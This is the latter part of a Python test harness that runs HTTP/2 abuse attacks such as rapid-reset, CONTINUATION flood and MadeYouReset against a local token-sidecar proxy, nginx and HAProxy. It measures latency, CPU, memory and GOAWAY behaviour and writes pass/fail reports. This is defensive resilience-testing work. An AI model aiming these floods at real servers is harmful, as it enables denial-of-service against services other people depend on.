        r = rss_kib(pids)   # the tree as it was at the start (nginx / HAProxy fork nothing meanwhile)
        if r is None:
            died = True
            break
        peak = max(peak, r)
        n += 1
    cpu1 = cpu_s(pids)
    wall = now() - t0
    dump(a.out, {"first_rss_kib": first, "peak_rss_kib": peak, "samples": n, "cpu_s": round(cpu1 - cpu0, 3),
                 "wall_s": round(wall, 3), "cpu_percent": round(100.0 * (cpu1 - cpu0) / max(0.001, wall), 1),
                 "died": died or not os.path.isdir("/proc/%d" % a.pid), "pids": pids})


def cmd_rest(a):
    time.sleep(a.seconds)
    cmd_rss(a)


def cmd_metrics(a):
    try:
        m = proxyclient.scrape_metrics(a.admin)
    except Exception as e:  # noqa: BLE001
        dump(a.out, {"_error": "%s: %s" % (type(e).__name__, e)})
        return
    keep = {k: v for k, v in m.items()
            if k.startswith(("token_sidecar_http2_", "token_sidecar_client_connections",
                             "token_sidecar_upstream_errors_total", "token_sidecar_upstream_connections"))
            or (k.startswith("token_sidecar_requests_total") and 'protocol="h2"' in k)}
    dump(a.out, keep)


def cmd_backend(a):
    """Lines "<uri> <status>" of the backend's access log from byte --from, by path prefix."""
    counts = collections.defaultdict(collections.Counter)
    with open(a.log, "rb") as f:
        f.seek(a.offset)
        for line in f:
            parts = line.split()
            if len(parts) < 2:
                continue
            uri = parts[0].decode("latin-1")
            m = re.match(r"(/[^/?]*/?)", uri)
            counts[m.group(1) if m else uri][parts[1].decode()] += 1
    dump(a.out, {k: dict(v) for k, v in counts.items()})


# ---------------------------------------------------------------- report ----------------------

ATTACK_PATH = {"rapid-reset": "/rr/", "continuation-flood": "/cf/", "reset-flood": "/rf/", "empty-frames": "/ef/",
               "madeyoureset": "/myr/", "header-limits": "/hl/", "no-read": "/nr/", "ping-flood": None,
               "settings-flood": None}
# attacks whose connections must end with GOAWAY (protocol violations and floods)
GOAWAY_REQUIRED = {"continuation-flood", "ping-flood", "settings-flood", "reset-flood", "empty-frames", "madeyoureset"}
SHORT = {"NO_ERROR": "NO_ERR", "PROTOCOL_ERROR": "PROTO", "INTERNAL_ERROR": "INTERNAL", "FLOW_CONTROL_ERROR": "FLOW",
         "STREAM_CLOSED": "CLOSED", "FRAME_SIZE_ERROR": "FRAME_SIZE", "REFUSED_STREAM": "REFUSED",
         "COMPRESSION_ERROR": "COMPRESSION", "ENHANCE_YOUR_CALM": "CALM"}
P99_RATIO, P99_FLOOR_MS, CPU_MAX, PEAK_MAX_MIB, AFTER_MAX_MIB = 2.0, 20.0, 60.0, 64.0, 16.0


def ms(v):
    return "-" if v is None else "%.1f" % v


def mib(kib):
    return None if kib is None else kib / 1024.0


def goaway_cell(att, short=False):
    """GOAWAY codes, connections with one / all; then how the judged ones without one ended."""
    if not att:
        return "-"
    g = att.get("goaway") or {}
    total = att.get("connections", 0)
    with_g = sum(g.values())
    names = ",".join((SHORT.get(k, k) if short else k) + ("" if len(g) == 1 else "x%d" % v)
                     for k, v in sorted(g.items(), key=lambda kv: -kv[1])) or "none"
    rest = att.get("judged_without_goaway_by_end") or {}
    more = ", ".join("%d %s" % (v, k) for k, v in sorted(rest.items(), key=lambda kv: -kv[1]))
    if short:
        return "%s %d/%d" % (names, with_g, total) + (" (%s)" % more if more else "")
    return "%s %d/%d" % (names, with_g, total) + ("; no GOAWAY: " + more if more else "")


def goaway_ok(att):
    """Every judged connection saw a GOAWAY; for an attacker that never reads, a reset by the
    target counts too (a GOAWAY before it is discarded unseen)."""
    if not att or not att.get("judged"):
        return False
    rest = dict(att.get("judged_without_goaway_by_end") or {})
    if not att.get("reads", True):
        rest.pop("reset", None)
    return sum(rest.values()) == 0


def row(tdir, attack, base):
    """The numbers and the verdict of one (target, attack)."""
    st = canary_stats(load(os.path.join(tdir, attack + ".canary.json")))
    w = load(os.path.join(tdir, attack + ".watch.json"), {})
    r0 = load(os.path.join(tdir, attack + ".rss0.json"), {})
    rest = load(os.path.join(tdir, attack + ".rest.json"), {})
    att = load(os.path.join(tdir, attack + ".attack.json"), {})
    be = load(os.path.join(tdir, attack + ".backend.json"), {})
    r = {"attack": attack, "canary": st, "watch": w, "att": att, "backend": be, "why": []}
    rss0 = r0.get("rss_kib") or w.get("first_rss_kib")
    r["rss0"] = mib(rss0)
    r["peak"] = None if rss0 is None or not w.get("peak_rss_kib") else mib(w["peak_rss_kib"] - rss0)
    r["after"] = None if rss0 is None or rest.get("rss_kib") is None else mib(rest["rss_kib"] - rss0)
    r["cpu"] = w.get("cpu_percent")
    prefix = ATTACK_PATH.get(attack)
    r["be"] = None if not prefix else sum(be.get(prefix, {}).values())
    r["be_status"] = be.get(prefix, {}) if prefix else {}
    why = r["why"]
    died = w.get("died") or rest.get("alive") is False or load(os.path.join(tdir, attack + ".died.json"))
    if died:
        why.append("target died")
    if st is None:
        why.append("no canary data")
    else:
        lim = max(P99_RATIO * base["p99"], P99_FLOOR_MS) if base and base["p99"] is not None else P99_FLOOR_MS
        if st["p99"] is None or st["p99"] > lim:
            why.append("p99")
        if st["fails"]:
            why.append("canary failures")
    if r["cpu"] is None or r["cpu"] > CPU_MAX:
        why.append("CPU")
    if r["peak"] is None or r["peak"] > PEAK_MAX_MIB:
        why.append("peak RSS")
    if r["after"] is None or r["after"] > AFTER_MAX_MIB:
        why.append("RSS after")
    if attack in GOAWAY_REQUIRED:
        if not goaway_ok(att):
            why.append("GOAWAY")
    if attack == "rapid-reset" and (r["be"] is None or r["be"] > 0):
        why.append("backend")
    if attack == "header-limits" and (not att or att.get("got_2xx", 1) > 0 or not att.get("requests")):
        why.append("2xx" if att and att.get("requests") else "no requests")
    return r


def note(r, target):
    """One line of what the attacker saw and the target did."""
    a = r["att"]
    if not a:
        return "- %s: no attacker data" % r["attack"]
    bits = ["%d conns (%d open at once%s)" % (a.get("connections", 0), a.get("max_open", 0),
                                              (", connect errors %s" % a["connect_errors"]) if a.get("connect_errors") else "")]
    if a.get("streams"):
        bits.append("%d streams written" % a["streams"])
    bits.append("%.1f MB written, %.1f MB read" % (a.get("bytes_sent", 0) / 1e6, a.get("bytes_received", 0) / 1e6))
    if a.get("goaway"):
        bits.append("GOAWAY %s (first after %.2f s p50, %.2f s max)" % (
            ", ".join("%s x%d" % kv for kv in a["goaway"].items()),
            a["goaway_after_s"]["p50"], a["goaway_after_s"]["max"]))
    else:
        bits.append("no GOAWAY")
    if a.get("judged_without_goaway"):
        bits.append("without GOAWAY: " + ", ".join("%d %s" % (v, k) for k, v in sorted(
            a["judged_without_goaway_by_end"].items(), key=lambda kv: -kv[1])))
    if not a.get("reads", True):
        bits.append("(never reads: a GOAWAY is seen only in what it reads at the end, or when a write fails)")
    if a.get("rst_stream"):
        bits.append("RST_STREAM " + ", ".join("%s x%d" % kv for kv in sorted(a["rst_stream"].items(), key=lambda kv: -kv[1])))
    if a.get("status"):
        bits.append("responses " + ", ".join("%s x%d" % kv for kv in sorted(a["status"].items())))
    wb = a.get("writes_blocked_at_end") or {}
    if wb.get("connections"):
        bits.append("target stopped reading: writes blocked at the end on %d/%d conns (up to %.1f s)"
                    % (wb["connections"], wb["of"], wb["max_s"]))
    if a.get("ends"):
        bits.append("ends: " + "; ".join("%s x%d" % kv for kv in sorted(a["ends"].items(), key=lambda kv: -kv[1])))
    if a.get("drain_capped"):
        bits.append("its drain stopped at 4 MiB on %d conns (the target had more queued)" % a["drain_capped"])
    if a.get("outcomes"):
        for kind, oc in a["outcomes"].items():
            bits.append("%s (%d bytes of fields): %s" % (kind, a.get(kind + "_bytes", 0),
                                                         ", ".join("%s x%d" % kv for kv in sorted(oc.items()))))
    if a.get("variants"):
        for v, c in sorted(a["variants"].items()):
            bits.append("[%s] " % v + ", ".join("%s %d" % kv for kv in sorted(c.items())))
    if r["be"] is not None:
        bits.append("backend %s: %d%s" % (ATTACK_PATH[r["attack"]], r["be"],
                                          (" (" + ", ".join("%s x%d" % kv for kv in sorted(r["be_status"].items())) + ")")
                                          if r["be_status"] else ""))
    if a.get("streams_reset_by_target"):
        bits.append("%d of its streams reset by the target" % a["streams_reset_by_target"])
    st = r["canary"]
    if st and st["fails"]:
        kinds = collections.Counter(f[3][:80] for f in st["fails"])
        bits.append("canary failures: " + "; ".join("%s x%d" % kv for kv in kinds.most_common(3)))
    return "- **%s**: " % r["attack"] + "; ".join(bits)


def metric_deltas(tdir, phase):
    m0 = load(os.path.join(tdir, phase + ".m0.json"), {})
    m1 = load(os.path.join(tdir, phase + ".m1.json"), {})
    out = []
    for k in sorted(set(m0) | set(m1)):
        if k.startswith("_") or k.startswith(("token_sidecar_client_connections", "token_sidecar_upstream_connections")):
            continue
        d = m1.get(k, 0) - m0.get(k, 0)
        if d:
            out.append("%s %+d" % (k.replace("token_sidecar_", ""), d))
    return out


def cmd_report(a):
    targets, attacks = a.targets.split(), a.attacks.split()
    labels = {"sidecar": "token-sidecar", "nginx": "nginx", "haproxy": "HAProxy"}
    lines = []
    P = lines.append
    rows = {}
    failed = []
    setup = False
    for t in targets:
        tdir = os.path.join(a.dir, t)
        meta = load(os.path.join(tdir, "meta.json"), {})
        base = canary_stats(load(os.path.join(tdir, "baseline.canary.json")))
        bw = load(os.path.join(tdir, "baseline.watch.json"), {})
        P("")
        P("### %s — %s" % (labels.get(t, t), meta.get("describe", "")))
        P("")
        if not base:
            P("no baseline data (set-up problem)")
            setup = True
            continue
        P("baseline %.0f s: %d canaries, p50 %s ms, p99 %s ms, %d failures; RSS %.1f MiB, CPU %s%%"
          % (bw.get("wall_s", 0), base["n"], ms(base["p50"]), ms(base["p99"]), len(base["fails"]),
             (bw.get("first_rss_kib") or 0) / 1024.0, bw.get("cpu_percent", "?")))
        if t == "sidecar" and base["fails"]:
            failed.append("sidecar/baseline")
        P("")
        P("| attack | canaries | p50 ms | p99 ms | fails | base p99 | CPU % | RSS MiB before | peak +MiB | +5 s +MiB "
          "| GOAWAY (conns with / all) | backend hits | result |")
        P("|---|--:|--:|--:|--:|--:|--:|--:|--:|--:|---|--:|---|")
        for at in attacks:
            r = row(tdir, at, base)
            rows[(t, at)] = r
            st = r["canary"] or {"n": 0, "p50": None, "p99": None, "fails": []}
            verdict = "PASS" if not r["why"] else "FAIL (%s)" % ", ".join(r["why"])
            if t == "sidecar":
                if r["why"]:
                    failed.append("sidecar/" + at)
            else:
                verdict = "info: " + verdict
            P("| %s | %d | %s | %s | %d | %s | %s | %s | %s | %s | %s | %s | %s |" % (
                at, st["n"], ms(st["p50"]), ms(st["p99"]), len(st["fails"]), ms(base["p99"]),
                "-" if r["cpu"] is None else "%.0f" % r["cpu"],
                "-" if r["rss0"] is None else "%.1f" % r["rss0"],
                "-" if r["peak"] is None else "%+.1f" % r["peak"],
                "-" if r["after"] is None else "%+.1f" % r["after"],
                goaway_cell(r["att"]), "-" if r["be"] is None else r["be"], verdict))
        P("")
        P("What the attackers saw:")
        for at in attacks:
            P(note(rows[(t, at)], t))
        if t == "sidecar":
            ds = [(ph, metric_deltas(tdir, ph)) for ph in ["baseline"] + attacks]
            ds = [(ph, d) for ph, d in ds if d]
            if ds:
                P("")
                P("token-sidecar counters (change over each phase, incl. its 5 s rest):")
                for ph, d in ds:
                    P("- %s: %s" % (ph, ", ".join(d)))
            if not any(k.startswith("token_sidecar_http2_") for ph in attacks
                       for k in load(os.path.join(tdir, ph + ".m1.json"), {})):
                P("- (no token_sidecar_http2_* counters exported by this binary)")
    P("")
    P("### Combined (p99 ms / canary failures · CPU % · peak RSS +MiB · GOAWAY · backend hits · result)")
    P("")
    P("| attack | " + " | ".join(labels.get(t, t) for t in targets) + " |")
    P("|---|" + "---|" * len(targets))
    for at in attacks:
        cells = []
        for t in targets:
            r = rows.get((t, at))
            if not r:
                cells.append("-")
                continue
            st = r["canary"] or {"p99": None, "fails": []}
            res = "PASS" if not r["why"] else "FAIL: " + ",".join(r["why"])
            if t != "sidecar":
                res = "(" + res + ")"
            cells.append("%s/%d · %s%% · %s · %s · %s · %s" % (
                ms(st["p99"]), len(st["fails"]), "-" if r["cpu"] is None else "%.0f" % r["cpu"],
                "-" if r["peak"] is None else "%+.0f" % r["peak"], goaway_cell(r["att"], short=True),
                "-" if r["be"] is None else r["be"], res))
        P("| %s | %s |" % (at, " | ".join(cells)))
    P("")
    P("Rules (sidecar rows; nginx / HAProxy verdicts in parentheses are informational): canary p99 <= %.0fx the "
      "target's baseline p99 or <= %.0f ms, no canary failure, CPU (utime+stime of the process tree) <= %.0f%% of "
      "the attack's wall time, peak RSS <= +%.0f MiB and RSS 5 s after the attack <= +%.0f MiB over the RSS just "
      "before it; %s: every attack connection that lived >= 1 s (or that the target ended) saw a GOAWAY "
      "(for the attackers that never read — ping-, settings-, reset-flood — a reset by the target counts too: "
      "the reset discards a GOAWAY queued behind the unread frames); "
      "rapid-reset: no /rr/ request at the backend; header-limits: no 2xx."
      % (P99_RATIO, P99_FLOOR_MS, CPU_MAX, PEAK_MAX_MIB, AFTER_MAX_MIB, ", ".join(sorted(GOAWAY_REQUIRED))))
    P("")
    if setup:
        P("h2 abuse: SET-UP PROBLEM (a target has no baseline)")
    elif failed:
        P("h2 abuse: token-sidecar FAILED: %s" % " ".join(failed))
    else:
        P("h2 abuse: token-sidecar passed every row" if "sidecar" in targets else "h2 abuse: done (no sidecar rows)")
    text = "\n".join(lines) + "\n"
    sys.stdout.write(text)
    if a.md:
        with open(a.md, "w") as f:
            f.write(text)
    return 2 if setup else (1 if failed else 0)


# ---------------------------------------------------------------- selftest --------------------

def selftest(_a):
    import hpack
    import hyperframe.frame as hf
    enc = request_prefix("GET", "127.0.0.1:8080") + path_field("/rr/1") + lit(b"x-junk", b"j" * 300)
    got = hpack.Decoder().decode(enc, raw=True)
    want = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"127.0.0.1:8080"),
            (b":path", b"/rr/1"), (b"x-junk", b"j" * 300)]
    assert got == want, got
    post = hpack.Decoder().decode(request_prefix("POST", "a:1") + path_field("/ef/1"), raw=True)
    assert post[0] == (b":method", b"POST"), post
    big = lit(b"x-huge", b"h" * 66000)
    assert hpack.Decoder(max_header_list_size=1 << 20).decode(big, raw=True) == [(b"x-huge", b"h" * 66000)]
    for data in (frame(HEADERS, END_STREAM | END_HEADERS, 3, enc), frame(RST_STREAM, 0, 3, struct.pack(">I", 8)),
                 frame(WINDOW_UPDATE, 0, 5, b"\0\0\0\1"), settings_frame([(2, 0), (4, 4096)]),
                 frame(PING, 0, 0, b"abusepng"), frame(DATA, 0, 7)):
        f, ln = hf.Frame.parse_frame_header(memoryview(data[:9]))
        f.parse_body(memoryview(data[9:9 + ln]))
        assert ln == len(data) - 9
    fs = header_frames(1, b"x" * 40000, True)
    f, ln = hf.Frame.parse_frame_header(memoryview(fs[:9]))
    assert isinstance(f, hf.HeadersFrame) and "END_STREAM" in f.flags and "END_HEADERS" not in f.flags and ln == 16384
    print("h2attack selftest ok")


# ---------------------------------------------------------------- main ------------------------

ATTACKS = ["rapid-reset", "continuation-flood", "ping-flood", "settings-flood", "reset-flood", "empty-frames",
           "madeyoureset", "header-limits", "no-read"]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    defaults = {"header-limits": dict(conns=4, rate=20), "no-read": dict(conns=50, rate=200, max_total=100)}
    for name in ATTACKS:
        d = defaults.get(name, {})
        p = sub.add_parser(name)
        p.add_argument("--target", required=True, help="127.0.0.1:PORT (h2c, prior knowledge)")
        p.add_argument("--authority", required=True, help=":authority of every request")
        p.add_argument("--seconds", type=float, required=True)
        p.add_argument("--out", required=True)
        p.add_argument("--conns", type=int, default=d.get("conns", 4), help="connections at once")
        p.add_argument("--rate", type=float, default=d.get("rate", 50), help="new connections per second at most")
        p.add_argument("--max-total", type=int, default=d.get("max_total", 2000), help="connections in all")
        p.add_argument("--batch", type=int, default=50, help="streams per write (rapid-reset, madeyoureset)")
        p.add_argument("--rcvbuf", type=int, default=4096, help="SO_RCVBUF of the attackers that do not read")
        p.add_argument("--streams", type=int, default=100, help="no-read: streams per connection")
        p.add_argument("--window", type=int, default=4096, help="no-read: SETTINGS_INITIAL_WINDOW_SIZE")
        p.add_argument("--drain", type=float, default=1.0, help="seconds to read what the target sent, at the end")
    p = sub.add_parser("canary")
    p.add_argument("--target", required=True)
    p.add_argument("--authority", required=True)
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--interval", type=float, default=0.1)
    p.add_argument("--timeout", type=float, default=2.0)
    p.add_argument("--once", action="store_true")
    p.add_argument("--out")
    for name in ("rss", "watch", "rest"):
        p = sub.add_parser(name)
        p.add_argument("--pid", type=int, required=True)
        p.add_argument("--seconds", type=float, default=0)
        p.add_argument("--interval", type=float, default=0.25)
        p.add_argument("--out", required=True)
    p = sub.add_parser("metrics")
    p.add_argument("--admin", required=True)
    p.add_argument("--out", required=True)
    p = sub.add_parser("backend")
    p.add_argument("--log", required=True)
    p.add_argument("--from", dest="offset", type=int, default=0)
    p.add_argument("--out", required=True)
    p = sub.add_parser("report")
    p.add_argument("--dir", required=True)
    p.add_argument("--targets", required=True)
    p.add_argument("--attacks", required=True)
    p.add_argument("--md")
    sub.add_parser("selftest")
    a = ap.parse_args()
    if a.cmd in ATTACKS:
        attack(a)
    elif a.cmd == "report":
        try:
            rc = cmd_report(a)
        except Exception:  # noqa: BLE001 — a broken report is a set-up problem, not a verdict
            import traceback
            traceback.print_exc()
            rc = 2
        sys.exit(rc)
    else:
        {"canary": canary, "rss": cmd_rss, "watch": cmd_watch, "rest": cmd_rest, "metrics": cmd_metrics,
         "backend": cmd_backend, "selftest": selftest}[a.cmd](a)


if __name__ == "__main__":
    main()
